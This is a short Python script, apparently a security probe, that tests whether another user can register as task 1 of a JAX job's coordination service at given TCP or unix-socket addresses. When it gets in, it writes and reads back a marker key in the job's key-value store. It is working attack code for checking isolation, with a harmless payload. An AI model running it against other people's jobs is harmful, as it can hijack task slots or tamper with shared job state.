"""Another user's attack on a job's coordination service, with nothing but
jaxlib: for each address given, register as task 1 of the job and write and
read its key-value store, each address in a process of its own (a refused
connect ends jaxlib's client with an abort).  One line per address:

    ADDRESS refused (exit CODE)     or     ADDRESS REGISTERED ...

    python outsider.py 127.0.0.1:PORT unix:/path.sock ...
"""

import subprocess
import sys

TIMEOUT = 3  # seconds jaxlib's client tries to register before it gives up


def attack(address: str) -> None:
    from jaxlib import _jax

    client = _jax.get_distributed_runtime_client(address, 1, init_timeout=TIMEOUT, rpc_timeout=TIMEOUT)
    client.connect()
    client.key_value_set("outsider", "was here")
    print(f"{address} REGISTERED, read back {client.key_value_try_get('outsider')!r}", flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "--one":
        attack(sys.argv[2])
        sys.exit(0)
    tries = [(a, subprocess.Popen([sys.executable, __file__, "--one", a], stdout=subprocess.PIPE,
                                  stderr=subprocess.DEVNULL, text=True)) for a in sys.argv[1:]]
    for address, proc in tries:
        out, _ = proc.communicate(timeout=60)
        print(out.strip() if proc.returncode == 0 else f"{address} refused (exit {proc.returncode})", flush=True)
